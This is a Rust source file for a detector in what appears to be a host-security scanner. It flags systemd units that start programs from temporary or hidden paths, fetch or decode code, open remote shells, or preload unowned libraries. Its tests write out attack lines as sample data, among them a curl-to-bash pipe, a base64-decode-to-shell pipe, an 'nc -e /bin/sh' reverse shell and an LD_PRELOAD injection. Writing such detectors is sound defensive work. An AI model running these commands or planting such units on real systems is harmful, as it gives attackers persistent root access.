//! A unit that starts what nobody honest makes a service of.
//!
//! # What it sees
//! A unit of systemd, of the system or of a user, that no package brought as it is, whose `Exec...=` starts a program in
//! a directory that everybody may write to or that does not outlive a boot, a hidden or disguised one, code that it
//! fetches or decodes a moment before, or a shell for whoever is at the other end of a connection; or whose
//! `Environment=` has a library loaded into it that no package owns.
//!
//! # Why it matters
//! A unit starts at boot as root, is started again when it ends, and looks like a hundred others.
//!
//! # Innocent causes
//! Units of admins whose programs lie in /opt, /srv, /usr/local or openly in a home are not reported.
//!
//! # What to do
//! `systemctl cat UNIT`, `systemctl status UNIT`. Keep a copy of the unit and of the program before you stop it.

use super::{foreign, judge, risky};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/unit-risky",
    title: "a unit starts what nobody honest makes a service of",
    level: Level::Suspicious,
    attack: &["T1543.002"],
    absolute: false,
    source: include_str!("unit_risky.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    foreign(scene.world, &[AutostartKind::Unit]).filter_map(|entry| look(scene, entry)).collect()
}

fn look(scene: &Scene<'_>, entry: &Autostart) -> Option<Finding> {
    let finding = risky(&DETECTOR, scene, entry, judge(scene.world, entry)?)?;
    Some(finding.innocent("a service of an admin or of an application", false, "ask whose it is; read the program"))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    const NAME: &str = "persistence/unit-risky";
    const UNIT: &str = "/etc/systemd/system/x.service";

    #[track_caller]
    fn check_exec(line: &str, expected: &str) {
        let expected: Vec<String> =
            if expected.is_empty() { vec![] } else { vec![format!("suspicious: {UNIT} line 2 {expected}")] };
        let expected: Vec<&str> = expected.iter().map(String::as_str).collect();
        check(NAME, &format!("package a 1\n{UNIT} = [Service]\\n{line}\\n"), &expected);
    }

    #[test]
    fn programs_in_odd_places() {
        let missing = "and is not there now";
        check_exec("ExecStart=/dev/shm/k", &format!("starts /dev/shm/k, which lies in /dev/shm {missing}"));
        check_exec("ExecStartPre=-/tmp/k", &format!("starts /tmp/k, which lies in /tmp {missing}"));
        check_exec("ExecStopPost=+/usr/lib/.k/k", &format!("starts /usr/lib/.k/k, which hides {missing}"));
        check_exec(
            "ExecStart=@/var/tmp/k [kworker/0:1]",
            &format!("starts /var/tmp/k, which lies in /var/tmp {missing}"),
        );
        check_exec("ExecStart=/bin/sh -c 'exec /tmp/k -d'", &format!("starts /tmp/k, which lies in /tmp {missing}"));
        check_exec(
            "ExecStart=/usr/bin/python3 \\\\\\n /tmp/k.py",
            &format!("starts /tmp/k.py, which lies in /tmp {missing}"),
        );
        check_exec("ExecStart=\"/tmp/a b\"", &format!("starts /tmp/a b, which lies in /tmp {missing}"));
        check_exec("ExecStart=/opt/.k/k", &format!("starts /opt/.k/k, which hides {missing}"));
    }
    #[test]
    fn code_from_elsewhere() {
        check_exec("ExecStart=/bin/bash -c \"curl -s http://x | bash\"", "fetches code and runs it");
        check_exec("ExecStart=/bin/sh -c 'echo dHJ1ZQ== | base64 -d | sh'", "decodes code and runs it");
        check_exec(
            "ExecStart=/usr/bin/nc -e /bin/sh 192.0.2.1 443",
            "gives a shell to whoever is at the other end of a connection",
        );
        check_exec(
            "ExecStart=/usr/bin/python3 -c \"import socket,os;os.dup2(0,1);socket.socket()\"",
            "holds code that connects to elsewhere and runs what it is told",
        );
    }
    #[test]
    fn a_library_in_the_environment() {
        check_exec(
            "Environment=\"LD_PRELOAD=/etc/l.so\" A=b\\n\n/etc/l.so = x\n/etc/l.so : mode=100644\n/etc/hosts = ",
            "has what it starts load /etc/l.so, which no package owns",
        );
        check_exec("Environment=LD_PRELOAD=/opt/agent/l.so\\n\n/opt/agent/l.so = x\n/etc/hosts = ", "");
    }
    #[test]
    fn a_unit_of_a_user_and_one_that_sleeps() {
        let unit = "/home/anna/.config/systemd/user/x.service";
        let host =
            format!("package a 1\n/etc/passwd = anna:x:1000:1000::/home/anna:/bin/sh\\n\n{unit} = ExecStart=/tmp/k");
        check(
            NAME,
            &host,
            &[&format!("suspicious: {unit} line 1 starts /tmp/k, which lies in /tmp and is not there now")],
        );
        let text = "starts /tmp/k, which lies in /tmp and is not there now (does not start as it is)";
        check(NAME, &format!("{host}\\n[Install]\\n"), &[&format!("unusual: {unit} line 1 {text}")]);
    }
    #[test]
    fn units_of_packages_and_of_admins_are_quiet() {
        let unit = format!("{UNIT} = [Service]\\nExecStart=/tmp/k\\n\n");
        let text = format!("suspicious: {UNIT} line 2 starts /tmp/k, which lies in /tmp and is not there now");
        check(NAME, &unit, &[&text]);
        check(NAME, &format!("{unit}package x 1 owns {UNIT}"), &[]);
        for line in [
            "ExecStart=/srv/app/venv/bin/python /srv/app/serve.py",
            "ExecStart=/opt/agent/bin/agent --config /etc/agent.toml",
            "ExecStart=/usr/local/bin/own --pid /run/own.pid --log /tmp/own.log",
            "ExecStart=/bin/sh -c 'sleep 5; exec /opt/x/run'",
            "ExecStart=/home/anna/app/.venv/bin/gunicorn app:app",
            "ExecStart=/usr/bin/docker run --rm -v /tmp:/tmp x",
            "ExecStartPost=/usr/bin/curl -fsS https://hc-ping.com/x",
            "ExecReload=/bin/kill -HUP $MAINPID",
            "ExecStart=/usr/bin/true",
        ] {
            check_exec(line, "");
        }
    }
}
